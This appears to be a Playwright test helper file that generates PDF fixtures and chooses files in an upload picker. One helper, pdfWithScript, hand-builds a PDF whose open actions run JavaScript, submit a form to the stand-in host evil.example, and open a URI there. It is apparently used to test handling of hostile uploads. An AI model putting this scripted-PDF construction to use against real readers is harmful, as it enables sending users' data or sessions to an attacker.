import type { Page } from '@playwright/test'
import { expect } from '@playwright/test'

type Paper = { name: string; mimeType: string; buffer: Buffer }

/** A PDF with these paragraphs, as a word processor would write it. */
export async function paper(page: Page, name: string, paragraphs: string[]): Promise<Paper> {
  const printer = await page.context().browser()?.newPage()
  if (!printer) throw new Error('No browser')
  await printer.setContent(`<h1>Proposal</h1>${paragraphs.map((text) => `<p>${text}</p>`).join('')}`)
  const buffer = await printer.pdf({ format: 'A4' })
  await printer.context().close()
  return { name, mimeType: 'application/pdf', buffer }
}

/** A PDF that would run a script, and leave for another site, when it is opened by a program that lets it. */
export function pdfWithScript(): Paper {
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("run"\\); this.submitForm\\("https://evil.example"\\))>>/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O<</S/URI/URI(https://evil.example)>>>>>>',
    '<</Length 44>>\nstream\nBT /F1 24 Tf 40 100 Td (Harmless words) Tj ET\nendstream',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const xref = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`
  text += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${xref}\n%%EOF\n`
  return { name: 'script.pdf', mimeType: 'application/pdf', buffer: Buffer.from(text, 'latin1') }
}

/** Chooses files in the picker of a stage: made ones, or one of the disk. */
export async function addFiles(page: Page, ...files: Paper[] | [string]) {
  const [picker] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: 'Add files' }).click(),
  ])
  await picker.setFiles(files as Paper[] | string[])
  // A browser tells of the same file only when it was not chosen before.
  await expect.poll(() => picker.element().evaluate((input) => (input as HTMLInputElement).value)).toBe('')
}
